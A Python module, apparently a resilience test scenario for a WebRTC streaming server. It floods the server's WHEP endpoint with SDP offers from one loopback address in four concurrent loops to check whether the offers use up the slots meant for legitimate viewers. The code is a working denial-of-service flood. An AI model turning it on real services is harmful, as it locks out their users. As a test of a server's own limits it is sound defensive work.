"""Offers that nobody connects, from one address: do they take the places of those who want to join?"""

import asyncio

from .ground import NO_ANSWER, OFFER, SDP, Http, failure


async def attack(target, pace, tally):
    # The places are taken at once, and then as fast as they come free.
    await asyncio.gather(*(offers(target, pace, tally, burst=300) for _ in range(4)))


async def offers(target, pace, tally, burst):
    http, sent = Http(target.http, "127.0.0.31"), 0
    while True:
        try:
            status, _, _ = await http.ask("POST", f"/whep/{target.stream}", SDP, OFFER)
            tally[str(status)] += 1
        except NO_ANSWER as error:
            http.close()
            tally[failure(error)] += 1
        sent += 1
        await pace.rest(0.01 if sent < burst else 0.1)
